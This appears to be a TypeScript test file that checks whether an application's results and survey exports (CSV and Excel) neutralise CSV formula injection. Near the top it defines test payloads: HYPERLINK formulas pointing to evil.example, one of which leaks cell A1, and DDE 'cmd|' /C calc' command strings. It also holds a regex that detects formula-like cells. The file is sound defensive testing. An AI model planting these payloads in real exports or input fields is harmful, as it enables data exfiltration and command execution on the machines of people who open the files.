/**
 * No formula rides out in an export (CSV injection, OWASP): unit names, peer-group names and
 * class labels that look like formulas are stored, then the results CSV, the results workbook and
 * the national workbook are fetched; a survey response with formula answers is stored, then the
 * responses CSV is fetched. Every CSV cell that could start a formula carries a leading `'`, the
 * figures stay plain numbers, and no workbook holds a formula cell.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import JSZip from 'jszip';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { AuthService, CONSOLE } from '../auth/auth.service.ts';
import { questionnaires, surveyResponses } from '../db/schema.ts';
import { writeNationalWorkbook } from '../documents/national-workbook.ts';
import { UnitRepository } from '../repositories/unit.repository.ts';
import { DEMO_PASSWORD } from '../seed/seed-workflow.ts';
import { HistoryService } from '../services/history.service.ts';
import { ResultsService } from '../services/results.service.ts';
import { sampleSipasQuestionnaire } from '../survey-io/sample-questionnaires.ts';
import { describeEachDatabase } from '../testing/databases.ts';
import { login, type TestSession } from '../testing/sessions.ts';
import { buildApp } from './app.ts';

const LINK = '=HYPERLINK("http://evil.example","x")';
const LINK_A1 = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const CMD = "=cmd|' /C calc'!A0";
const PLUS = "+1+cmd|' /C calc'!A0";
const AT = '@SUM(1+1)';
const MINUS = '-2+3';

/** Two published years of the same units: Sở Tư pháp loses 1.25 points (a negative change that must stay a number). */
const table = (survey: string) =>
  Buffer.from(
    [
      'group,unit_code,unit,appraised_points,survey_points,max_points',
      `departments,so-tu-phap,Sở Tư pháp,60,${survey},100`,
      `departments,evil-link,"${LINK.replace(/"/g, '""')}",55,20,100`,
      `departments,evil-cmd,${CMD},50,20,100`,
      `departments,evil-plus,${PLUS},45,20,100`,
      `departments,evil-at,${AT},40,20,100`,
      `departments,evil-minus,${MINUS},30,20,100`,
    ].join('\n'),
  );
const bands = [{ label: LINK, min: '80' }, { label: 'Khá', min: '70' }, { label: MINUS, min: '0' }];
const ties = { mode: 'shared' as const };

/** A text that a spreadsheet would read as a formula: starts with = + - @ tab CR (or NUL), and is not a plain number. */
const formulaLike = (s: string) => /^[=+\-@\t\r\0]/.test(s) && !/^[+-]?\d+(\.\d+)?$/.test(s);

/** Every cell of every sheet is not a formula, in ExcelJS's reading and in the raw sheet XML. */
async function expectNoFormula(buf: Buffer): Promise<ExcelJS.Workbook> {
  const zip = await JSZip.loadAsync(buf);
  for (const name of Object.keys(zip.files).filter((f) => /^xl\/worksheets\/[^/]+\.xml$/.test(f))) {
    expect(await zip.file(name)!.async('string'), name).not.toMatch(/<f[\s>/]/);
  }
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  let cells = 0;
  wb.eachSheet((ws) =>
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        cells++;
        expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula, `${ws.name}!${cell.address}`).toBeFalsy();
      }),
    ),
  );
  expect(cells).toBeGreaterThan(0);
  return wb;
}

/** The cells of a workbook holding exactly this text, each with its type. */
function cellsWith(wb: ExcelJS.Workbook, text: string): { at: string; type: ExcelJS.ValueType }[] {
  const out: { at: string; type: ExcelJS.ValueType }[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
    if (cell.value === text) out.push({ at: `${ws.name}!${cell.address}`, type: cell.type });
  })));
  return out;
}

describeEachDatabase(
  'no formula rides out in an export',
  (getDb, kind) => {
    let app: FastifyInstance;
    let secretariat: TestSession;
    let cycle2019: string, cycle2020: string, qid: string;
    const answerCode = sampleSipasQuestionnaire().questions.find((q) => q.type === 'text')!.code;
    const multipleCode = sampleSipasQuestionnaire().questions.find((q) => q.type === 'multiple')!.code;
    const dangerous = [LINK_A1, CMD, PLUS, AT, MINUS, '\t=1+1', '\r=1+1'];

    beforeAll(async () => {
      const db = getDb();
      const history = new HistoryService(db);
      const groupNames = { departments: AT };
      cycle2019 = (await history.importResults(table('25'), { year: 2019, bands, ties, groupNames })).cycle.id;
      cycle2020 = (await history.importResults(table('23.75'), { year: 2020, bands, ties, groupNames })).cycle.id;
      const results = new ResultsService(db);
      await results.compute(cycle2019);
      await results.compute(cycle2020);

      const unit = (await new UnitRepository(db).findByCode('so-tu-phap'))!;
      await new AuthService(db).createUser(CONSOLE, { username: 'thuky.xuat', fullName: 'Thư ký xuất tệp', password: DEMO_PASSWORD, role: 'secretariat' });
      qid = crypto.randomUUID();
      const doc = sampleSipasQuestionnaire();
      await db.insert(questionnaires).values({ id: qid, cycleId: cycle2020, code: 'SIPAS-XUAT', kind: doc.kind, document: doc, identified: 1 });
      await db.insert(surveyResponses).values(
        dangerous.map((v, i) => ({
          id: `r-${String(i).padStart(2, '0')}`,
          questionnaireId: qid,
          unitId: unit.id,
          respondentGroup: 'nguoi_dan',
          channel: 'Trực tuyến',
          answers: { [answerCode]: v, [multipleCode]: [MINUS, '1'] },
          submittedAt: new Date(Date.UTC(2020, 10, 1, 8, i)),
          durationSeconds: 240 + i,
          respondentName: i === 0 ? CMD : 'Nguyễn Văn A',
          excludedReason: i === 1 ? AT : null,
        })),
      );
      await db.insert(surveyResponses).values({
        id: 'r-99', questionnaireId: qid, unitId: unit.id, respondentGroup: 'nguoi_dan', channel: 'Trực tuyến',
        answers: { [answerCode]: '-2.5' }, submittedAt: new Date(Date.UTC(2020, 10, 2)), durationSeconds: 300, respondentName: 'Sở Tư pháp',
      });

      app = await buildApp({ database: { db, kind, close: async () => {} } });
      secretariat = await login(app, 'thuky.xuat');
    }, 120_000);
    afterAll(() => app?.close());

    it('results CSV: names and class labels neutralised, changes stay plain numbers', async () => {
      const res = await app.inject(`/api/cycles/${cycle2020}/results/export?format=csv`);
      expect(res.statusCode).toBe(200);
      const records: string[][] = parse(res.body, { bom: true });
      const [header, ...rows] = records;
      const byCode = new Map(rows.map((r) => [r[header.indexOf('unit_code')], Object.fromEntries(header.map((h, i) => [h, r[i]]))]));
      expect(byCode.get('evil-link')!.unit).toBe(`'${LINK}`);
      expect(byCode.get('evil-cmd')!.unit).toBe(`'${CMD}`);
      expect(byCode.get('evil-plus')!.unit).toBe(`'${PLUS}`);
      expect(byCode.get('evil-at')!.unit).toBe(`'${AT}`);
      expect(byCode.get('evil-minus')!.unit).toBe(`'${MINUS}`);
      const tuPhap = byCode.get('so-tu-phap')!;
      expect(tuPhap.unit).toBe('Sở Tư pháp');
      expect(tuPhap.classification).toBe(`'${LINK}`);
      expect(byCode.get('evil-link')!.classification).toBe('Khá');
      expect(byCode.get('evil-minus')!.classification).toBe(`'${MINUS}`);
      expect([tuPhap.total_points, tuPhap.index_percent, tuPhap.index_change, tuPhap.total_change]).toEqual(['83.75', '83.75', '-1.25', '-1.25']);
      expect(Number(tuPhap.index_change)).toBe(-1.25);
      // Nothing anywhere in the file could start a formula.
      for (const cell of records.flat()) expect(formulaLike(cell), JSON.stringify(cell)).toBe(false);
    });

    it('results workbook: a formula-like label stays a string cell and no cell is a formula', async () => {
      const res = await app.inject(`/api/cycles/${cycle2020}/results/export?format=xlsx`);
      expect(res.statusCode).toBe(200);
      const wb = await expectNoFormula(res.rawPayload);
      for (const text of [LINK, CMD, PLUS, AT, MINUS]) {
        const found = cellsWith(wb, text);
        expect(found.length, text).toBeGreaterThan(0);
        for (const c of found) expect(c.type, `${text} at ${c.at}`).toBe(ExcelJS.ValueType.String);
      }
    });

    it('national workbook: the same, through the streaming writer', async () => {
      const dir = mkdtempSync(path.join(tmpdir(), 'parindex-injection-'));
      try {
        const file = path.join(dir, 'tong-hop.xlsx');
        await writeNationalWorkbook(getDb(), [cycle2020, cycle2019], file, { publicOnly: true });
        const wb = await expectNoFormula(readFileSync(file));
        for (const text of [LINK, CMD, AT, MINUS]) {
          const found = cellsWith(wb, text);
          expect(found.length, text).toBeGreaterThan(0);
          for (const c of found) expect(c.type, `${text} at ${c.at}`).toBe(ExcelJS.ValueType.String);
        }
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });

    it('survey responses CSV: formula answers, names and reasons neutralised; numbers and plain text untouched', async () => {
      const res = await app.inject({ url: `/api/work/surveys/${qid}/responses.csv`, headers: secretariat.headers });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toContain('text/csv');
      const records: string[][] = parse(res.body, { bom: true });
      const [header, ...rows] = records;
      const col = (r: string[], h: string) => r[header.indexOf(h)];
      expect(rows).toHaveLength(dangerous.length + 1);
      dangerous.forEach((v, i) => {
        const r = rows.find((x) => col(x, 'id') === `r-${String(i).padStart(2, '0')}`)!;
        expect(col(r, answerCode)).toBe(`'${v}`);
        expect(col(r, multipleCode)).toBe(`'${MINUS};1`);
        expect(col(r, 'duration_seconds')).toBe(String(240 + i));
        expect(col(r, 'unit_code')).toBe('so-tu-phap');
      });
      const first = rows.find((x) => col(x, 'id') === 'r-00')!;
      expect(col(first, 'respondent_name')).toBe(`'${CMD}`);
      expect(col(rows.find((x) => col(x, 'id') === 'r-01')!, 'excluded_reason')).toBe(`'${AT}`);
      const plain = rows.find((x) => col(x, 'id') === 'r-99')!;
      expect([col(plain, answerCode), col(plain, 'respondent_name'), col(plain, 'duration_seconds')]).toEqual(['-2.5', 'Sở Tư pháp', '300']);
      for (const cell of records.flat()) expect(formulaLike(cell), JSON.stringify(cell)).toBe(false);
    });
  },
  { truncateEach: false },
);
